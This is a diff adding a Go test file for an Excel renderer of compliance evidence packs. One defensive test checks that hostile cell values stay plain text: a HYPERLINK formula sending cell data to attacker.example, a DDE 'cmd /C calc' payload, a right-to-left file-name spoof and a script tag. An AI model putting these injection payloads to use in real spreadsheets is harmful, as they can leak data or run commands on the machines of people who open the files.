@@ -1,0 +1,276 @@
+package xlsx
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"io"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"github.com/evidencepack/evidence"
+	"github.com/evidencepack/evidence/reports"
+	"github.com/evidencepack/evidence/reports/reportstest"
+)
+
+func render(t *testing.T, r Renderer, p *reports.Pack) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	if err := r.Render(&b, p); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func open(t *testing.T, b []byte) *excelize.File {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := f.Close(); err != nil {
+			t.Error(err)
+		}
+	})
+	return f
+}
+
+// parts reads the workbook's files.
+func parts(t *testing.T, b []byte) map[string]string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	parts := map[string]string{}
+	for _, f := range z.File {
+		r, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		content, err := io.ReadAll(r)
+		if err != nil {
+			t.Fatalf("%s: %v", f.Name, err)
+		}
+		parts[f.Name] = string(content)
+	}
+	return parts
+}
+
+// TestNothingOutsideIsObeyed: hostile texts are the text of cells. No formula
+// and no link but https stands anywhere in the workbook.
+func TestNothingOutsideIsObeyed(t *testing.T) {
+	b := render(t, Renderer{}, reportstest.Pack(reportstest.Options{}))
+	formula := regexp.MustCompile(`<f[ >/]`)
+	target := regexp.MustCompile(`Target="([^"]*)" Type="[^"]*" TargetMode="External"`)
+	links := 0
+	for name, content := range parts(t, b) {
+		if m := formula.FindString(content); m != "" {
+			t.Errorf("%s holds a formula", name)
+		}
+		for _, m := range target.FindAllStringSubmatch(content, -1) {
+			links++
+			if !strings.HasPrefix(m[1], "https://") {
+				t.Errorf("%s links to %q", name, m[1])
+			}
+		}
+	}
+	if links == 0 {
+		t.Error("the workbook links to no source system")
+	}
+	f := open(t, b)
+	found := map[string]bool{}
+	for row := 1; row <= 450; row++ {
+		cell := fmt.Sprintf("F%d", row) // who
+		value, err := f.GetCellValue("NET-02", cell)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found[value] = true
+		if value == "" || !strings.ContainsAny(value[:1], "=+-@\n") {
+			continue
+		}
+		kind, err := f.GetCellType("NET-02", cell)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
+			t.Errorf("%s %q is of type %v, not text", cell, value, kind)
+		}
+	}
+	for _, want := range []string{
+		`=HYPERLINK("https://attacker.example/?"&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+9)`, " =1+1", "\n=1+1",
+		"line one\nline two\nline three", "invoice[U+202E]fdp.exe", "zero[U+200B]width[U+FEFF]", "nul[U+0000] bell[U+0007] escape[U+001B][31m",
+		"bad [0xFF][0xFE] bytes", `<script>alert(1)</script> & <!-- ]]> -->`, "_x0041_ escaped", reportstest.LongHash,
+	} {
+		if !found[want] {
+			t.Errorf("no cell holds %q", want)
+		}
+	}
+}
+
+func TestDatesAreDates(t *testing.T) {
+	p := reportstest.Pack(reportstest.Options{})
+	f := open(t, render(t, Renderer{}, p))
+	item := p.Controls[2].Exceptions[0] // LOG-01
+	rows, err := f.GetRows("LOG-01", excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range rows {
+		if len(r) < 12 || r[11] != item.ID {
+			continue
+		}
+		var days float64
+		if _, err := fmt.Sscan(r[3], &days); err != nil {
+			t.Fatalf("time %q is not a number: %v", r[3], err)
+		}
+		got, err := excelize.ExcelDateToTime(days, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := item.Time.In(p.Location).Format(time.DateTime)
+		if diff := cmp.Diff(want, got.Format(time.DateTime)); diff != "" {
+			t.Errorf("time in the organisation's zone (-want +got):\n%s", diff)
+		}
+		return
+	}
+	t.Fatalf("no row of item %s", item.ID)
+}
+
+// TestExceptionsLinkToTheirRows follows the links of the list of exceptions.
+func TestExceptionsLinkToTheirRows(t *testing.T) {
+	for _, maxRows := range []int{0, 120} {
+		t.Run(fmt.Sprint(maxRows), func(t *testing.T) {
+			p := reportstest.Pack(reportstest.Options{Lang: evidence.English})
+			f := open(t, render(t, Renderer{maxRows: maxRows}, p))
+			row := 1
+			for _, c := range p.Controls {
+				for _, item := range c.Exceptions {
+					row++
+					linked, to, err := f.GetCellHyperLink("Exceptions", fmt.Sprintf("G%d", row))
+					if err != nil || !linked {
+						t.Fatalf("row %d: linked %v, %v", row, linked, err)
+					}
+					sheet, cell, _ := strings.Cut(to, "!")
+					sheet = strings.Trim(sheet, "'")
+					if !strings.HasPrefix(sheet, c.ID) {
+						t.Errorf("row %d of %s leads to sheet %q", row, c.ID, sheet)
+					}
+					column := map[bool]string{true: "L", false: "J"}[len(c.Columns) == 7]
+					id, err := f.GetCellValue(sheet, strings.Replace(cell, "A", column, 1))
+					if err != nil {
+						t.Fatal(err)
+					}
+					if id != item.ID {
+						t.Errorf("%s leads to %q, want item %q", to, id, item.ID)
+					}
+				}
+			}
+		})
+	}
+}
+
+func TestPopulationGoesOnInFurtherSheets(t *testing.T) {
+	p := reportstest.Pack(reportstest.Options{})
+	f := open(t, render(t, Renderer{maxRows: 120}, p))
+	items := map[string]bool{}
+	sheets := 0
+	for _, name := range f.GetSheetList() {
+		if !strings.HasPrefix(name, "NET-02") {
+			continue
+		}
+		sheets++
+		rows, err := f.GetRows(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) > 120 {
+			t.Errorf("%s has %d rows, want at most 120", name, len(rows))
+		}
+		for _, r := range rows {
+			if len(r) > 11 && strings.Count(r[11], "-") == 4 {
+				if items[r[11]] {
+					t.Errorf("%s: item %s is there twice", name, r[11])
+				}
+				items[r[11]] = true
+			}
+		}
+	}
+	if sheets < 4 || len(items) != 400 {
+		t.Errorf("%d sheets hold %d items, want 4 or more with 400", sheets, len(items))
+	}
+}
+
+func TestInconsistentPacksAreRefused(t *testing.T) {
+	tests := map[string]func(*reports.Pack){
+		"an item more than counted":   func(p *reports.Pack) { p.Controls[0].Counts.Total-- },
+		"a verdict counted otherwise": func(p *reports.Pack) { p.Controls[0].Counts.Passed--; p.Controls[0].Counts.Pending++ },
+		"an exception not listed":     func(p *reports.Pack) { p.Controls[2].Exceptions = p.Controls[2].Exceptions[1:] },
+	}
+	for name, spoil := range tests {
+		t.Run(name, func(t *testing.T) {
+			p := reportstest.Pack(reportstest.Options{})
+			spoil(p)
+			if err := (Renderer{}).Render(io.Discard, p); err == nil {
+				t.Error("the pack was rendered")
+			}
+		})
+	}
+}
+
+// TestEmptyPack: no controls, no sources, no items is still a workbook.
+func TestEmptyPack(t *testing.T) {
+	f := open(t, render(t, Renderer{}, &reports.Pack{Period: reportstest.Period, Location: reportstest.Location, Lang: evidence.English}))
+	want := []string{"Cover", "Summary", "Control matrix", "Exceptions", "IPE", "Coverage", "Hashes"}
+	if diff := cmp.Diff(want, f.GetSheetList()); diff != "" {
+		t.Errorf("sheets (-want +got):\n%s", diff)
+	}
+}
+
+func TestSheetLooks(t *testing.T) {
+	b := render(t, Renderer{}, reportstest.Pack(reportstest.Options{}))
+	all := parts(t, b)
+	f := open(t, b)
+	merged, err := f.GetMergeCells("LOG-01")
+	if err != nil {
+		t.Fatal(err)
+	}
+	header := 0
+	for row := 1; row < 30; row++ {
+		if v, err := f.GetCellValue("LOG-01", fmt.Sprintf("A%d", row)); err == nil && v == "#" {
+			header = row
+		}
+	}
+	if header == 0 {
+		t.Fatal("LOG-01 has no header row")
+	}
+	for _, m := range merged {
+		_, row, err := excelize.CellNameToCoordinates(m.GetEndAxis())
+		if err != nil || row >= header {
+			t.Errorf("cells %s are merged in the data area (%v)", m.GetStartAxis(), err)
+		}
+	}
+	for name, content := range all {
+		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
+			continue
+		}
+		for _, want := range []string{`fitToPage="1"`, `fitToWidth="1"`, `fitToHeight="0"`, "<oddFooter>", "<cols>"} {
+			if !strings.Contains(strings.ReplaceAll(content, "true", "1"), want) {
+				t.Errorf("%s lacks %s", name, want)
+			}
+		}
+	}
+	if n := strings.Count(all["xl/workbook.xml"], "_xlnm.Print_Titles"); n < 9 {
+		t.Errorf("%d sheets repeat their header on paper, want 9", n)
+	}
+	if n := strings.Count(all["xl/workbook.xml"], "_xlnm._FilterDatabase"); n < 9 {
+		t.Errorf("%d sheets have a filter, want 9", n)
+	}
+}
